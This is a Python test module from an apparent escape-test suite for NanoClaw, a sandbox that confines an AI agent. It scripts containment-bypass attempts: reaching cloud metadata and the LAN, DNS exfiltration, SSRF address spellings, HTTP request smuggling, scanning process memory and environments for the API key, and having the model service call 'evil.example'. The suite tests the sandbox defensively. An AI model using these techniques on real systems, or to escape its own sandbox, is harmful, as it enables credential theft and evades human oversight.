"""Attempts on the network, on the gateway and on the keys."""

# ruff: noqa: E501 - a script stands as it would be typed

from tests.escape.attempt import Attempt, python, shell

_NO_NETWORK = "A network namespace with nothing but loopback"
_RULES = "The gateway's rules"
_IDENTITY = "The socket that is mounted is the identity"
_KEYS = "The key is put in outside; inside it is the word `placeholder`"
_DIAL = "def dial(*where):\n    socket.create_connection(where, 3).close()\n"
_POST = (
    'post() { curl -sS -m 10 -X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "content-type: application/json" "$@" 2>&1 '
    "| grep -o 'NanoClaw gateway: .*' | sed 's/^/HELD /; s/\".*//'; }\n"
)
_FETCH = '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"escape"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}'
_RAW = (
    "def ask(port, data):\n    with socket.create_connection(('127.0.0.1', port), 3) as s:\n        s.settimeout(5)\n"
    "        s.sendall(data)\n        got = b''\n        try:\n            while len(got) < 400 and (more := s.recv(400)):\n"
    "                got += more\n        except TimeoutError:\n            got += b' (silence)'\n        except ConnectionError:\n            got += b' (reset)'\n"
    "    print('HELD' if b' 200 ' not in got else 'BREACH', got[:160])\n"
    "model, proxy = 8181, int(os.environ['HTTPS_PROXY'].rsplit(':')[-1])\n"
    "model = int(os.environ['ANTHROPIC_BASE_URL'].rsplit(':')[-1])\n"
)

NETWORK: tuple[Attempt, ...] = (
    python("raw sockets", "Open raw and packet sockets",
           "attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
           "attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)\n"
           "attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12)", "EPERM|EACCES",
           "No capabilities, and the seccomp allowlist", tries=3),
    python("host's loopback", "Reach a server on the host's loopback",
           _DIAL + "attempt(dial, '127.0.0.1', {port})\nattempt(dial, '::1', {port})\nattempt(dial, '0.0.0.0', {port})",
           "ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL", "The loopback inside is another one", tries=3),
    python("host and LAN", "Reach a server on the host's address, the engine's bridge and the LAN",
           _DIAL + "for address in ('{lan}', '172.17.0.1', '192.168.1.1', '10.0.0.1'):\n    attempt(dial, address, {port})",
           "ENETUNREACH", _NO_NETWORK, tries=4),
    python("own way to the host", "Reach a bait server of the host at its own address",
           _DIAL + "attempt(dial, '{lan}', {port})", "ENETUNREACH", _NO_NETWORK, control=True),
    python("internet", "Reach the internet by address, also by IPv6",
           _DIAL + "attempt(dial, '1.1.1.1', 443)\nattempt(dial, '2606:4700:4700::1111', 443)", "ENETUNREACH|EADDRNOTAVAIL",
           _NO_NETWORK, tries=2),
    python("metadata", "Read the cloud's metadata",
           _DIAL + "attempt(dial, '169.254.169.254', 80)\nattempt(dial, 'fd00:ec2::254', 80)",
           "ENETUNREACH|EADDRNOTAVAIL", _NO_NETWORK, tries=2),
    python("names", "Look names up, and carry data out in them",
           "def lookup():\n    try:\n        socket.getaddrinfo('escape.example.org', 443)\n    except socket.gaierror as error:\n"
           "        raise OSError(errno.EHOSTUNREACH, str(error))\nattempt(lookup)\n"
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "for server in ('8.8.8.8', '169.254.169.253', '192.168.1.1'):\n    attempt(s.sendto, b'x' * 30, (server, 53))",
           "EHOSTUNREACH|ENETUNREACH", _NO_NETWORK, tries=4),
    shell("interfaces", "Have another interface than loopback, or a route",
          "tail -n +3 /proc/net/dev | shows '(eth|ens|enp|docker|wlan|veth)[0-9]'\ntail -n +2 /proc/net/route | shows .",
          "nothing of it", _NO_NETWORK, tries=2),
    python("abstract sockets", "Connect to an abstract socket of the host",
           "attempt(socket.socket(socket.AF_UNIX).connect, '\\0{abstract}')", "ECONNREFUSED", _NO_NETWORK, control=True),
    python("control socket", "Connect to nanoclaw's control socket",
           "os.chdir('/')\ntry:\n    os.chdir('{home}/data/ipc')\nexcept OSError: pass\n"
           "attempt(socket.socket(socket.AF_UNIX).connect, 'control.sock')", "ENOENT",
           "Only the group's own gateway sockets are mounted", control=True),
    shell("other group's socket", "Reach another group's gateway socket",
          "try ls {home}/data/ipc/work\nfind / -name '*.sock' -path '*work*' 2>/dev/null | shows sock\n"
          "ls /run/nanoclaw | grep -vE '^(model|proxy).sock$' | shows .\ntry touch /run/nanoclaw/x",
          "No such file|nothing of it|Read-only|denied", "Only the group's own gateway sockets are mounted", tries=4),
    shell("proxy: names not allowed", "Reach names that are not allowed",
          "for a in example.org evil.example api.anthropic.com.evil.example; do try curl -sS -m 5 https://$a/; done",
          "response 403", _RULES, tries=3),
    shell("proxy: addresses", "Reach loopback, LAN and metadata through the proxy, in ten spellings",
          "for a in localhost 127.0.0.1 127.1 2130706433 0x7f000001 0177.0.0.1 [::ffff:127.0.0.1] [::1] 169.254.169.254 "
          "{lan}; do try curl -sS -m 5 -k --noproxy '' https://$a/; done", "response 40[03]", _RULES, tries=10),
    shell("proxy: ports", "Reach other ports, a mail server's among them",
          "for p in 22 25 53 80 8443 {port}; do try curl -sS -m 5 -p http://example.org:$p/; done", "response 403",
          _RULES, tries=6),
    python("proxy: plain requests", "Have the proxy fetch by itself, and speak other methods",
           _RAW + "for head in (b'GET http://example.org/ HTTP/1.1', b'POST http://{lan}:{port}/ HTTP/1.1', "
           "b'GET / HTTP/1.1', b'CONNECT / HTTP/1.1', b'OPTIONS * HTTP/1.1'):\n    ask(proxy, head + b'\\r\\nHost: x\\r\\n\\r\\n')",
           "HTTP/1.1 40", _RULES, tries=5),
    python("proxy: broken heads", "Confuse the proxy: bodies, NUL, credentials in the name, a head without end",
           _RAW + "ask(proxy, b'CONNECT example.org:443 HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nhello')\n"
           "ask(proxy, b'CONNECT example.org%00.evil:443 HTTP/1.1\\r\\n\\r\\n')\n"
           "ask(proxy, b'CONNECT me:you@example.org:443 HTTP/1.1\\r\\n\\r\\n')\n"
                      "ask(proxy, b'CONNECT example.org:443 HTTP/1.1\\r\\nX: ' + b'a' * 100_000)\n", "HTTP/1.1 4[0-9][0-9]", _RULES,
           tries=4),
)  # fmt: skip

GATEWAY: tuple[Attempt, ...] = (
    shell("key in the environment", "Find the key in an environment",
          "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | shows '{secret}'\nenv | shows '{secret}'\n"
          "env | grep -c '^ANTHROPIC_API_KEY=placeholder$' | sed 's/^1$/HELD placeholder/'",
          "nothing of it|placeholder", _KEYS, tries=3),
    python("key in memory", "Find the key in the memory of `claude`, where its placeholder is found",
           "import re\npid, found, mine = claude(), 0, 0\nneedle = bytes(a ^ 1 for a in b'{scrambled}')\n"
           "mem = open(f'/proc/{pid}/mem', 'rb', 0)\nfor line in open(f'/proc/{pid}/maps'):\n"
           "    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
           "    if 'rw' not in line.split()[1] or b - a > 1 << 27: continue\n    try:\n        mem.seek(a)\n"
           "        held = mem.read(b - a)\n    except OSError: continue\n    found += needle in held\n"
           "    mine += b'ANTHROPIC_API_KEY=placeholder' in held\n"
           "print('UNTRIED' if not mine else 'BREACH' if found else 'HELD only the placeholder')", "only the placeholder",
           _KEYS),
    shell("key in an answer", "Have the gateway or the service show the key",
          'curl -sS -m 10 -i -X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "content-type: application/json" -d "{}" '
          "2>&1 > answer; grep -c ^HTTP/1.1 answer | sed 's/^1$/HELD answered/'\nshows '{secret}|x-api-key|organization' < answer",
          "answered|nothing of it", "Headers of requests come back in no answer", tries=2),
    shell("other parts of the service", "Use files, batches, models, the organisation, a path around the list",
          "for p in v1/files v1/messages/batches v1/models v1/organizations/me v1/../v1/files v1/messages/%2e%2e/files "
          'v1/messages?x=1 .; do try curl -sS -f -m 5 --path-as-is -X POST "$ANTHROPIC_BASE_URL/$p"; done',
          "error: 40[34]", _RULES, tries=8),
    shell("own key", "Send data out with a key of one's own",
          "try curl -sS -f -m 5 -X POST \"$ANTHROPIC_BASE_URL/v1/files\" -H 'x-api-key: mine'\n"
          "curl -sS -m 10 -X POST \"$ANTHROPIC_BASE_URL/v1/messages\" -H 'x-api-key: mine' -H 'authorization: Bearer mine' "
          "-H 'x-escape: yes' -H 'content-type: application/json' -d '{\"model\":\"escape-own-key\"}' >/dev/null; echo HELD sent",
          "error: 403|sent", "Credentials from inside are replaced, other headers are dropped; seen at the service", tries=2),
    shell("web fetch by the service", "Have the model's service fetch an address: plainly, escaped, doubled, in UTF-16, packed",
          _POST + f"post -d '{_FETCH}'\n"
          f"post -d '{_FETCH.replace('web_fetch', chr(92) + 'u0077eb_fetch')}'\n"
          f"post -d '{_FETCH.replace('}]}', '}],' + chr(34) + 'tools' + chr(34) + ':[]}')}'\n"
          f"printf '%s' '{_FETCH}' | iconv -t UTF-16 > body; post --data-binary @body\n"
          f"printf '%s' '{_FETCH}' | gzip > body; post -H 'content-encoding: gzip' --data-binary @body",
          "may not use web_fetch|not plain JSON", "Requests are looked at before they leave", tries=5),
    shell("servers of the service", "Have the model's service call a server, run code, load an image by its address or a file",
          _POST + "post -d '{\"model\":\"m\",\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://evil.example\"}]}'\n"
          "post -d '{\"model\":\"m\",\"container\":\"c\"}'\n"
          "post -d '{\"model\":\"m\",\"tools\":[{\"type\":\"code_execution_20250825\",\"name\":\"c\"}]}'\n"
          "post -d '{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\",\"content\":[{\"type\":\"image\","
          "\"source\":{\"type\":\"url\",\"url\":\"https://evil.example/\"}}]}]}]}'\n"
          "post -d '{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document\",\"source\":{\"type\":\"file\","
          "\"file_id\":\"f\"}}]}]}'",
          "not open to this group|may not use|may not load", "Requests are looked at before they leave", tries=5),
    shell("another name", "Speak to the gateway as another group",
          "try curl -sS -f -m 5 -X POST \"$ANTHROPIC_BASE_URL/v1/groups/main\" -H 'x-nanoclaw-group: main' -H 'host: main'\n"
          "try curl -sS -f -m 5 \"http://127.0.0.1:${ANTHROPIC_BASE_URL##*:}/v1/status\" -H 'host: daemon'",
          "error: 40[34]", _IDENTITY, tries=2),
    python("broken requests", "Choke the gateway: giant heads, two lengths, smuggled requests, a body that never ends",
           _RAW + "line = b'POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\n'\n"
           "ask(model, line + b'X: ' + b'a' * 200_000 + b'\\r\\n\\r\\n')\n"
           "ask(model, line + b'Content-Length: 5\\r\\nContent-Length: 50\\r\\n\\r\\n{}   ')\n"
           "ask(model, line + b'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /v1/files HTTP/1.1\\r\\n\\r\\n')\n"
           "ask(model, line + b'Content-Length: 99999999999\\r\\n\\r\\n{')\nask(model, b'\\x16\\x03\\x01' + b'\\0' * 300)\n",
           r"HTTP/1.[01] 4[0-9][0-9]|\(reset\)", _RULES, tries=5),
    python("many connections", "Hold more connections to the proxy than it grants",
           _RAW + "held = []\nfor _ in range(90):\n    s = socket.create_connection(('127.0.0.1', proxy), 3)\n"
           "    s.settimeout(2)\n    held.append(s)\ntime.sleep(0.5)\nopen_ones = 0\nfor s in held:\n    s.settimeout(0.02)\n    try:\n"
           "        open_ones += s.recv(50) == b'' and 0\n    except TimeoutError:\n        open_ones += 1\n    except OSError: pass\n"
           "print('HELD at most 64' if 0 < open_ones <= 64 else f'BREACH {open_ones}')", "at most 64",
           "A number of connections for each group"),
)  # fmt: skip
